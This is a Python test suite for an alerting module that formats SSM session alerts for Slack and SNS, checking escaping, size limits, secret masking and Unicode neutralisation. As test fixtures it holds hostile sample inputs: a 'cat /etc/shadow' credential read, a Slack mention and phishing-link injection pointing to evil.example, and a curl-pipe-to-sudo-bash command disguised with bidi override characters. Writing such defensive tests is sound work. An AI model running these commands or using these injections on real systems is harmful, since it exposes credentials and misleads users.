"""SNS and Slack formatting: what people read, Slack's escaping and limits, and that session text cannot inject
mentions or links. Pure functions, no AWS."""

from __future__ import annotations

import json
import re
import sys
import unicodedata
from copy import replace
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from sessionguard.alerting.formatting import (
    CAP_SUMMARY_RULE_ID,
    METADATA_MAX,
    SLACK_BLOCKS_MAX,
    SLACK_FIELD_TEXT_MAX,
    SLACK_HEADER_MAX,
    SLACK_SECTION_TEXT_MAX,
    SNS_COMMAND_MAX,
    SNS_MESSAGE_MAX_BYTES,
    AlertContext,
    alert_record,
    build_slack_message,
    build_sns_message,
    cap_summary_alert,
    code_block,
    console_log_stream_url,
    fit_blocks,
    slack_escape,
    sns_alert_message,
    sns_subject,
    technique_url,
)
from sessionguard.alerting.text import TRUNCATED, visible
from sessionguard.session.engine import CommandAlert
from sessionguard.severity import Severity

CONTEXT = AlertContext("/aws/ssm/sessionguard/sessions", "bob.smith-0c1d2e3f4a5b6c7d8", "eu-west-1")
ALERT = CommandAlert(
    session_id="bob.smith-0c1d2e3f4a5b6c7d8",
    instance_id="i-0fedcba9876543210",
    user="arn:aws:sts::111122223333:assumed-role/Ops/bob.smith",
    rule_id="SG-TEST-004",
    title="Shadow password file read",
    severity=Severity.HIGH,
    techniques=("T1003.008",),
    description="Reading /etc/shadow exposes password hashes for offline cracking.",
    command="cat /etc/shadow",
    event_time="2026-11-26T15:00:26Z",
    event_id="17957052260000000000000000000000000000000000000000000005",
    account_id="123456789012",
    region="eu-west-1",
    log_group="/aws/ssm/sessionguard/sessions",
)
INJECTION = "<!channel> <https://evil.example/login|Re-authenticate here> & @here ``` done"

# Our own markup: links this module writes (console and ATT&CK). Everything else must be escaped.
OWN_LINK = re.compile(
    r"<https://(?:[a-z0-9-]+\.)?console\.aws\.amazon\.com/[^<>|\s]*\|Open the session log in CloudWatch>"
)
ATTACK_LINK = re.compile(r"<https://attack\.mitre\.org/techniques/T\d{4}(?:/\d{3})?/\|T\d{4}(?:\.\d{3})?>")
ENTITY = re.compile(r"&(?:amp|lt|gt);")


def mrkdwn_texts(message: dict[str, Any]) -> list[str]:
    """Every string Slack parses as mrkdwn: the fallback text and each mrkdwn text object."""
    texts = [message["text"]]

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if node.get("type") == "mrkdwn":
                texts.append(node["text"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(message["blocks"])
    return texts


def assert_no_injection(message: dict[str, Any]) -> None:
    for text in mrkdwn_texts(message):
        stripped = ATTACK_LINK.sub("", OWN_LINK.sub("", text))
        assert "<" not in stripped, text
        assert ">" not in stripped, text
        assert "&" not in ENTITY.sub("", stripped), text
        assert not re.search(r"@(channel|here|everyone)\b", stripped, re.IGNORECASE), text


def code_blocks(text: str) -> list[str]:
    return re.findall(r"```\n(.*?)\n```", text, re.DOTALL)


# --- Slack escaping -----------------------------------------------------------------------------------------


def test_slack_markup_typed_in_a_command_is_escaped() -> None:
    assert slack_escape("<!channel> a & b <https://x|y>") == "&lt;!channel&gt; a &amp; b &lt;https://x|y&gt;"


def test_bare_broadcast_mentions_are_broken_with_a_word_joiner() -> None:
    escaped = slack_escape("ping @here and @Channel and @everyone, not @hereford")
    assert "@here " not in escaped
    assert "@Channel" not in escaped
    assert "@everyone" not in escaped
    assert "@\u2060here" in escaped
    assert "@hereford" in escaped


def test_code_block_cannot_be_closed_by_typed_backticks() -> None:
    block = code_block("echo ``` <b> ```` `", 200)
    assert block.startswith("```\n")
    assert block.endswith("\n```")
    inner = block[4:-4]
    assert "``" not in inner
    assert "&lt;b&gt;" in inner


def test_escaping_within_a_limit_never_cuts_an_entity() -> None:
    escaped = slack_escape("&" * 100, 40)
    assert len(escaped) <= 40
    assert escaped.endswith(TRUNCATED)
    assert ENTITY.sub("", escaped.removesuffix(TRUNCATED)) == ""


def test_control_characters_are_shown_in_caret_notation_and_lone_surrogates_replaced() -> None:
    assert visible("a\x1b[31mb\x07\x7f\x9b\ud800\tc\nd") == "a^[[31mb^G^?\\x9b\ufffd\tc\nd"


def test_bidi_overrides_and_invisible_characters_are_shown_as_escapes() -> None:
    # "Trojan Source": a right-to-left override makes the tail of a command display reversed.
    command = "curl -s https://x.example/i.sh | sudo bash #\u202e\u2066 lanigiro si siht \u2069\u2028\ufeff\u200b"
    assert visible(command) == (
        "curl -s https://x.example/i.sh | sudo bash #\\u202e\\u2066 lanigiro si siht \\u2069\\u2028\\ufeff\\u200b"
    )
    assert visible("tag\U000e0041") == "tag\\U000e0041"
    assert visible("plain ascii and é ü 漢字") == "plain ascii and é ü 漢字"


def test_every_format_and_separator_character_of_the_running_unicode_data_is_neutralised() -> None:
    """The list in alerting/text.py is fixed (no import-time scan of the Unicode tables); this keeps it complete."""
    unsafe = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in {"Cf", "Zl", "Zp"}]
    assert unsafe
    assert [char for char in unsafe if visible(char) == char] == []


FORMAT_CATEGORIES = {"Cf", "Zl", "Zp", "Cs", "Cc"}


BIDI_AND_INVISIBLE = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029\ufeff\u200b"


@settings(max_examples=500, deadline=None)
@given(
    st.text(alphabet=st.one_of(st.sampled_from(BIDI_AND_INVISIBLE), st.characters(exclude_categories=())), max_size=80)
)
def test_visible_text_has_no_invisible_or_reordering_characters(text: str) -> None:
    shown = visible(text)
    assert all(unicodedata.category(c) not in FORMAT_CATEGORIES or c in "\n\t" for c in shown)
    shown.encode("utf-8")  # no lone surrogate


# --- the console link -------------------------------------------------------------------------------------------


def test_console_link_encodes_group_and_stream_the_consoles_way() -> None:
    url = console_log_stream_url("eu-west-1", "/aws/ssm/sessionguard/sessions", "bob.smith-0c1d")
    assert url == (
        "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1"
        "#logsV2:log-groups/log-group/$252Faws$252Fssm$252Fsessionguard$252Fsessions/log-events/bob.smith-0c1d"
    )


def test_console_link_cannot_carry_slack_link_syntax() -> None:
    url = console_log_stream_url("us-east-1", "g", "s|<!here>x")
    assert "|" not in url
    assert "<" not in url
    assert ">" not in url


def test_console_link_uses_the_partitions_console() -> None:
    assert console_log_stream_url("cn-north-1", "g", "s").startswith("https://console.amazonaws.cn/")
    assert console_log_stream_url("us-gov-west-1", "g", "s").startswith("https://console.amazonaws-us-gov.com/")


def test_attack_ids_link_to_mitre_and_anything_else_does_not() -> None:
    assert technique_url("T1059.004") == "https://attack.mitre.org/techniques/T1059/004/"
    assert technique_url("T1105") == "https://attack.mitre.org/techniques/T1105/"
    assert technique_url("javascript:alert(1)") is None


# --- the Slack message ------------------------------------------------------------------------------------------


def test_slack_message_shows_severity_rule_who_where_session_command_attack_and_link() -> None:
    message = build_slack_message(ALERT, CONTEXT)
    flat = json.dumps(message)
    header = message["blocks"][0]
    assert header["type"] == "header"
    assert "HIGH: Shadow password file read" in header["text"]["text"]
    for fact in (
        "SG-TEST-004",
        "arn:aws:sts::111122223333:assumed-role/Ops/bob.smith",
        "123456789012",
        "eu-west-1",
        "i-0fedcba9876543210",
        "bob.smith-0c1d2e3f4a5b6c7d8",
        "```\\ncat /etc/shadow\\n```",
        "<https://attack.mitre.org/techniques/T1003/008/|T1003.008>",
        "$252Faws$252Fssm$252Fsessionguard$252Fsessions/log-events/bob.smith-0c1d2e3f4a5b6c7d8|Open the session log",
    ):
        assert fact in flat, fact
    assert message["unfurl_links"] is False
    assert message["unfurl_media"] is False


def test_slack_message_escapes_an_injection_in_the_command() -> None:
    message = build_slack_message(replace(ALERT, command=f"cat /etc/shadow # {INJECTION}"), CONTEXT)
    assert_no_injection(message)
    command_section = message["blocks"][2]["text"]["text"]
    (inner,) = code_blocks(command_section)
    assert "&lt;!channel&gt;" in inner
    assert "&lt;https://evil.example/login|Re-authenticate here&gt;" in inner
    assert "``" not in inner


def test_every_mrkdwn_object_is_verbatim_so_slack_does_not_autolink() -> None:
    message = build_slack_message(ALERT, CONTEXT)

    def objects(node: Any) -> list[dict[str, Any]]:
        if isinstance(node, dict):
            found = [node] if node.get("type") == "mrkdwn" else []
            return found + [o for v in node.values() for o in objects(v)]
        if isinstance(node, list):
            return [o for v in node for o in objects(v)]
        return []

    assert all(o["verbatim"] is True for o in objects(message["blocks"]))


def test_a_huge_command_is_truncated_within_slacks_limits() -> None:
    message = build_slack_message(replace(ALERT, command="cat /etc/shadow " + "<&>" * 400_000), CONTEXT)
    section = message["blocks"][2]["text"]["text"]
    assert len(section) <= SLACK_SECTION_TEXT_MAX
    assert section.endswith(TRUNCATED + "\n```")
    assert_no_injection(message)


def test_long_titles_and_ids_stay_within_header_and_field_limits() -> None:
    alert = replace(ALERT, title="T" * 1000, user="u" * 5000, session_id="s" * 5000, instance_id="i" * 5000)
    message = build_slack_message(alert, CONTEXT)
    assert len(message["blocks"][0]["text"]["text"]) <= SLACK_HEADER_MAX
    assert all(len(f["text"]) <= SLACK_FIELD_TEXT_MAX for f in message["blocks"][1]["fields"])


def test_blocks_beyond_fifty_are_cut_with_a_marker() -> None:
    blocks = [{"type": "divider"} for _ in range(80)]
    fitted = fit_blocks(blocks)
    assert len(fitted) == SLACK_BLOCKS_MAX
    assert "31 more blocks left out" in fitted[-1]["elements"][0]["text"]


def test_slack_shows_the_time_as_code_so_it_cannot_render_markup() -> None:
    message = build_slack_message(replace(ALERT, event_time="*URGENT* _call_ :rotating_light:"), CONTEXT)
    when = next(f["text"] for f in message["blocks"][1]["fields"] if f["text"].startswith("*When*"))
    assert when == "*When*\n`*URGENT* _call_ :rotating_light:`"


# A key id of real shape: AWS's documented AKIAIOSFODNN7EXAMPLE is a stand-in the masker leaves readable.
LEAKED_KEY_ID = "AKIAQ3ZTRD5KQ7XWPL2N"


def test_a_secret_in_metadata_is_masked_before_it_reaches_slack() -> None:
    leaked = LEAKED_KEY_ID
    alert = replace(ALERT, user=f"arn:aws:sts::111122223333:assumed-role/Ops/{leaked}", instance_id=leaked)
    assert leaked not in json.dumps(build_slack_message(alert, CONTEXT))
    assert leaked not in build_sns_message(alert, CONTEXT).body


# --- SNS ------------------------------------------------------------------------------------------------------


def test_sns_subject_is_short_ascii_and_one_line() -> None:
    subject = sns_subject(replace(ALERT, title="Ünïcode\nnewline " + "x" * 200))
    assert len(subject) < 100
    assert subject.isascii()
    assert "\n" not in subject
    assert subject.startswith("[SessionGuard] HIGH: ")


def test_sns_message_has_a_readable_body_the_alert_json_and_filterable_attributes() -> None:
    message = build_sns_message(ALERT, CONTEXT)
    assert message.attributes == {
        "severity": {"DataType": "String", "StringValue": "high"},
        "rule_id": {"DataType": "String", "StringValue": "SG-TEST-004"},
    }
    readable, _, document = message.body.partition("Alert JSON:\n")
    assert "Who:      arn:aws:sts::111122223333:assumed-role/Ops/bob.smith" in readable
    assert "    cat /etc/shadow" in readable
    record = json.loads(document)
    assert record["rule_id"] == "SG-TEST-004"
    assert record["severity"] == "high"
    assert record["account_id"] == "123456789012"
    assert record["log_stream"] == CONTEXT.log_stream
    assert record["session_log_url"] == CONTEXT.session_log_url
    assert message.publish_kwargs("arn:topic")["MessageAttributes"] == message.attributes


def test_sns_command_is_cut_and_flagged_when_huge() -> None:
    record = alert_record(replace(ALERT, command="x" * (SNS_COMMAND_MAX * 3)), CONTEXT)
    assert len(record["command"]) == SNS_COMMAND_MAX
    assert record["command_truncated"] is True
    assert len(build_sns_message(replace(ALERT, command="x" * 1_000_000), CONTEXT).body.encode()) < 64 * 1024


def test_every_metadata_field_is_cleaned_and_bounded_in_the_sns_record() -> None:
    hostile = f"{LEAKED_KEY_ID} \x1b[2J\u202e\ud800" + "x" * 100_000
    alert = replace(
        ALERT,
        user=hostile,
        instance_id=hostile,
        session_id=hostile,
        event_time=hostile,
        account_id=hostile,
        region=hostile,
        event_id=hostile,
    )
    context = AlertContext(hostile, hostile, "eu-west-1")
    record = alert_record(alert, context)
    for name in ("user", "instance_id", "session_id", "event_time", "account_id", "region", "event_id"):
        value = record[name]
        assert len(value) <= METADATA_MAX, name
        assert LEAKED_KEY_ID not in value, name
        assert visible(value) == value, name
    assert len(record["log_group"]) <= METADATA_MAX
    assert len(record["log_stream"]) <= METADATA_MAX
    assert len(record["session_log_url"]) < 10 * METADATA_MAX
    body = build_sns_message(alert, context).body
    body.encode("utf-8")
    assert "When:     AKIA" not in body


def test_an_sns_message_never_exceeds_the_publish_limit() -> None:
    huge = "ü" * 200_000  # 2 bytes each in UTF-8
    message = sns_alert_message("s", [huge, huge], {"a": huge, "b": huge, "n": 1}, Severity.HIGH, "SG-X")
    assert len(message.body.encode()) <= SNS_MESSAGE_MAX_BYTES
    record = json.loads(message.body.partition("Alert JSON:\n")[2])
    assert record["n"] == 1
    assert record["a"].endswith(TRUNCATED)
    long_description = replace(ALERT, description="d" * 1_000_000, command="c" * 1_000_000)
    assert len(build_sns_message(long_description, CONTEXT).body.encode()) <= SNS_MESSAGE_MAX_BYTES


def test_a_lone_surrogate_anywhere_leaves_an_sns_message_that_encodes() -> None:
    message = sns_alert_message("s", ["\ud800"], {"x": "\udfff"}, Severity.HIGH, "SG-\ud800", extra="\ud800")
    message.body.encode("utf-8")
    assert all(v["StringValue"].encode("utf-8") for v in message.attributes.values())


def test_cap_summary_alert_names_the_cap_and_the_alert_held_back() -> None:
    summary = cap_summary_alert(ALERT, 20)
    assert summary.rule_id == CAP_SUMMARY_RULE_ID
    assert "20" in summary.title
    assert "SG-TEST-004" in summary.description
    assert summary.command == ALERT.command
    assert summary.session_id == ALERT.session_id


# --- properties -------------------------------------------------------------------------------------------------

TOKENS = [*"<>&|!@`*_~:/\\\n\t\x1b\x07 ", "@channel", "@here", "<!everyone>", "```", "&amp;", "<https://e|x>"]
session_text = st.lists(st.one_of(st.sampled_from(TOKENS), st.characters()), max_size=120).map("".join)


@settings(max_examples=300, deadline=None)
@given(command=session_text, user=session_text, session_id=session_text, instance_id=session_text, when=session_text)
def test_no_session_text_produces_slack_markup_outside_our_own(
    command: str, user: str, session_id: str, instance_id: str, when: str
) -> None:
    alert = replace(ALERT, command=command, user=user, session_id=session_id, instance_id=instance_id, event_time=when)
    context = AlertContext(CONTEXT.log_group, session_id, "eu-west-1")
    message = build_slack_message(alert, context)
    assert_no_injection(message)
    for inner in code_blocks(message["blocks"][2]["text"]["text"]):
        assert "``" not in inner
    json.dumps(message).encode("utf-8")  # no lone surrogate survives: the body encodes


@settings(max_examples=200, deadline=None)
@given(text=session_text, limit=st.integers(min_value=len(TRUNCATED), max_value=400))
def test_escaped_text_respects_its_limit(text: str, limit: int) -> None:
    escaped = slack_escape(text, limit)
    assert len(escaped) <= limit
    assert "<" not in escaped
    assert ">" not in escaped


@settings(max_examples=200, deadline=None)
@given(title=session_text, instance_id=session_text)
def test_sns_subject_is_always_valid(title: str, instance_id: str) -> None:
    subject = sns_subject(replace(ALERT, title=title, instance_id=instance_id))
    assert len(subject) < 100
    assert all(" " <= c <= "~" for c in subject)
